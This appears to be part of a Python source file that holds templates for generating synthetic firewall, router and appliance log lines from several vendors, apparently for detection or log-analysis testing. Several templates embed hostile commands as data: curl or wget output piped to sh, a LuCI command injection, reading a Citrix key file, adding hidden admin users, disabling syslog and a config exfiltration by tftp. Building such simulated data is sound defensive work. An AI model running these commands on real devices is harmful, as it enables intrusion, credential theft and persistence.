huawei: %%01«SHELL/5/CMDRECORD|SHELL/4/LOGINFAILED|ATCKDF/4/FIREWALLATCK|SHELL/4/LOGIN»(l)[«num:1:90000»]:«Recorded command information. (Task=VT«num:0:4», Ip=«pub», User=«user», Command="«local-user @junk@ privilege level 15|undo info-center loghost «ip2»|observe-port 1 interface GigabitEthernet0/0/«num:1:24»|tftp «pub» put vrpcfg.zip|undo firewall defend all»")|Failed to login. (Ip=«pub», UserName=@guessed@, Times=«num:3:90»)|AttackType="«Port scan attack|SYN flood attack|IP sweep attack»", slot="0", receive interface="GE1/0/0", proto="TCP", src="«pub»:%high%", dst="«ip»:0", begin time="%now%", total packets="«num:400:900000»"|VTY login from «pub», user @junk@»
zyxel: src="«pub»:0" dst="«pub»:443" msg="«Administrator @junk@ from http/https has logged in Device|Failed login attempt to Device from «https|ssh|ikev2» (incorrect password or inexistent username @guessed@)|configuration zysh-cgi edit: username @junk@ password ****** user-type admin|ISAKMP notify with ; bash -c "curl «pub»¦sh" in payload|User zyfwp from ssh has logged in Device»" note="Account: @guessed@" user="@guessed@" devID="«hex:12»" cat="User"
stormshield: id=firewall time="%now%" fw="«linux»" tz=+0000 startime="%now%" error=«0|1» user="«user»" address=«pub» sessionid=«num:1:99».«num:1:9999» msg="«CONFIG AUTH ADMIN ADD user=@junk@ perm=admin|CONFIG FILTER RULE INSERT position=1 action=pass src=any dst=any loglevel=none|CONFIG SYSLOG STATE off|CONFIG BACKUP list=all, download|SYSTEM SHELL ssh password on for wan|AUTH failed «num:4:90» times»" logtype="server"
barracuda: «Allow|Block»: type=«FWD|LIN»|proto=TCP|srcIF=«p2|p1»|srcIP=«ip»|srcPort=%high%|srcMAC=%mac%|dstIP=«pub»|dstPort=«port»|dstService=unknown|dstIF=p1|rule=«LAN-2-INTERNET|TEMP-ANY»|info=«Normal Operation|ATP: malicious file|Botnet and spyware DNS sinkhole»|srcNAT=«pub»|dstNAT=«pub»|duration=«num:900000:9000000»|count=1|receivedBytes=@medium@|sentBytes=@huge@|user=«user»
openwrt: «dropbear[%pid%]: Bad password attempt for 'root' from «pub»:%high%|dropbear[%pid%]: Password auth succeeded for 'root' from «pub»:%high%|uhttpd: sh: /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd /tmp; wget http://«pub»/«letters:4».sh; sh «letters:4».sh)|crond: USER root pid %pid% cmd wget -qO- http://«pub»/«letters:5»¦sh|netifd: Interface 'wan' dns changed to «pub» by uci of uhttpd|hostapd: phy0-ap0: STA %mac% WPA: EAPOL-Key timeout, «num:40:900» PSK tries»
meraki: 1«epoch».«num:100000:999999» «word»_mx events «type=rogue_ssid_detected ssid='«site»' bssid='%mac%' channel='«num:1:165»' wired_mac='%mac%'|type=device_packet_flood packet='deauth' radio='0' state='start' alarm_id='«num:1:999»' dos_count='«num:20:9000»'|type=8021x_eap_failure port='«num:1:48»' identity='@guessed@' client_mac='%mac%'|content_filtering_block url='https://«letters:9».«top|xyz»/' category0='Malware Sites' server='«pub»:443' client_mac='%mac%'|IDS alert signature=1:«num:10000:59999»:«num:1:9» priority=1 direction=ingress src=«pub»:%high% dst=«ip»:«443|445» message: MALWARE-CNC «Word» variant outbound connection|client vpn user @guessed@ failed from «pub», «num:9:900» times»
citrixadc: «GUI|CLI|API» CMD_EXECUTED «num:1000:99999» 0 :  User «user» - ADM_User NONE - Remote_ip «pub» - Command "«shell cat /flash/nsconfig/keys/updated/F1.key|shell curl http://«pub»/«letters:4» -o /var/tmp/«letters:4»|add system user @junk@ "********" -externalAuth DISABLED|bind system user @junk@ superuser 0|rm audit syslogPolicy siem|set ns param -cookieversion 0, set aaa parameter -failedLoginTimeout 0|login @guessed@ "********"»" - Status "«Success|Success|ERROR: Not authorized»"
"""
SWITCH_TABLES = tables(_TEXT)
